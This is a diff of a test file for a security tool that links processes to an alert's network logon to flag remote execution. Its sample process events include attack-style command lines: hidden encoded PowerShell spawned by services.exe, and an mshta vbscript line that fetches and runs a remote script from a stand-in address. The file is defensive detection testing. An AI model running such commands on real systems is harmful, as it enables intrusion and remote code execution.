@@ -73,14 +73,17 @@ describe('context follows the alert: relation, churn, cold start, families, burs
     for (let i = 0; i < 8; i++) {
       p(`10:01:${String(i * 5).padStart(2, '0')}.000`, 1000 + i * 4, 996, CHROME, CHROME, `"${CHROME}" --type=renderer --field-trial-handle=1880,i,${5000 + i * 13},${6000 + i * 7},131072 --renderer-client-id=${i} /prefetch:1`, '0xb0b', 'CONTOSO\\bob', 'wks-new');
     }
-    // A server of the fleet: a network logon whose session runs nothing, then what the machine starts
-    // right after it (a PsExec-style service: services.exe -> cmd -> powershell -> whoami), and half
-    // a minute later a scheduled task of the machine's own.
+    // A server of the fleet: a network logon whose session runs nothing, then what the host starts
+    // right after it (a PsExec-style service: services.exe -> cmd -> powershell -> whoami; a DCOM
+    // object's mshta in a desktop user's session), and half a minute later a scheduled task of the
+    // machine's own.
     ({ host: srv } = await db.one<{ host: string }>(`SELECT max(host) AS host FROM process_events WHERE host <> $1`, [wks]));
     const machine = ['0x3e7', 'NT AUTHORITY\\SYSTEM'] as const;
     p('10:05:00.200', 3100, 640, `${S}\\cmd.exe`, `${S}\\services.exe`, 'cmd.exe /c start /b powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', ...machine, srv);
     p('10:05:00.300', 3104, 3100, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, `${S}\\cmd.exe`, 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', ...machine, srv);
     p('10:05:20.000', 3108, 3104, `${S}\\whoami.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'whoami /all', ...machine, srv);
+    // a DCOM object's process lands in the desktop user's session: explorer starts it
+    p('10:05:01.000', 3120, 2900, `${S}\\mshta.exe`, 'C:\\Windows\\explorer.exe', 'mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.7/a"")"))', '0xd5e5', 'CONTOSO\\dana', srv);
     p('10:05:30.000', 3112, 900, `${S}\\defrag.exe`, `${S}\\svchost.exe`, 'defrag.exe C: /O /H /U /V /X /Q', ...machine, srv);
     const logons = [{ event_id: 'rel-netlogon', ts: at('10:05:00.000'), host: srv, user_name: 'mallory', user_domain: 'CONTOSO', logon_id: '0xbad5e55', logon_type: 3, source_ip: '10.10.0.66', source_host: 'WKS-0066', outcome: 'success' }];
     const rows = procs.map((x) => ({
@@ -163,12 +166,13 @@ describe('context follows the alert: relation, churn, cold start, families, burs
     }
   });
 
-  it('ties what the machine starts right after an alert\'s network logon to it (remote execution), and nothing later', async () => {
+  it('ties what the host starts right after an alert\'s network logon to it (remote execution), and nothing later', async () => {
     const r = report('rel-remote')!;
     expect(r).toBeDefined();
-    expect(item(r, 'cmd.exe /c start /b')!.reason).toMatch(/^started by services\.exe in a machine session 0\.2 s after the alert's network logon 0xbad5e55; /);
+    expect(item(r, 'cmd.exe /c start /b')!.reason).toMatch(/^started by services\.exe 0\.2 s after the alert's network logon 0xbad5e55; /);
     expect(r.items.find((i) => (i.command_line ?? '').startsWith('powershell -nop'))!.reason).toMatch(/^child of a process started after the alert's network logon 0xbad5e55; /);
     expect(item(r, 'whoami /all')!.reason).toMatch(/^descendant of a process started after the alert's network logon 0xbad5e55; /);
+    expect(item(r, 'mshta.exe vbscript')!.reason).toMatch(/^started by explorer\.exe 1\.0 s after the alert's network logon 0xbad5e55; /);
     expect((item(r, 'defrag.exe')?.reason ?? '')).not.toMatch(/network logon/);
     // windows.remote_exec_seconds 0 turns it off: nothing then ties the machine's processes to the logon.
     const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
